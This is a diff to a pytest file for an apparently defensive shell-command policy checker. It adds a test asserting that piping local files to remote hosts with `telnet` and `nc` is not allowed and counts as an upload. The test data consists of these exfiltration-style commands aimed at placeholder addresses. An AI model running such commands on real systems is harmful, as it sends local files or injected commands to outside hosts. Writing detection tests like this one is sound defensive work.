@@ -123,3 +123,11 @@ def test_wrapper_line_with_trailing_options_is_judged(command: str) -> None:
 @pytest.mark.parametrize("command", ['pm2 start "npm run start" --name web', 'pm2 start app.js --cron "0 * * * *"'])
 def test_wrapper_line_routine(command: str) -> None:
     assert decide(command).verdict == "allow"
+
+
+# A file fed to a socket client is local data sent, even at a store's port where any typed line reads as a command
+# (the carriers merge made `telnet h 25 < mail.txt` a silent allow; `rules.secrets.upload` keeps the file's `@` mark).
+@pytest.mark.parametrize("command", ["telnet 203.0.113.9 25 < mail.txt", "nc 203.0.113.5 6379 < cmds.txt",
+                                     "nc 203.0.113.5 11211 < dump.txt"])
+def test_a_file_fed_to_a_socket_is_an_upload(command: str) -> None:
+    assert decide(command).verdict != "allow"
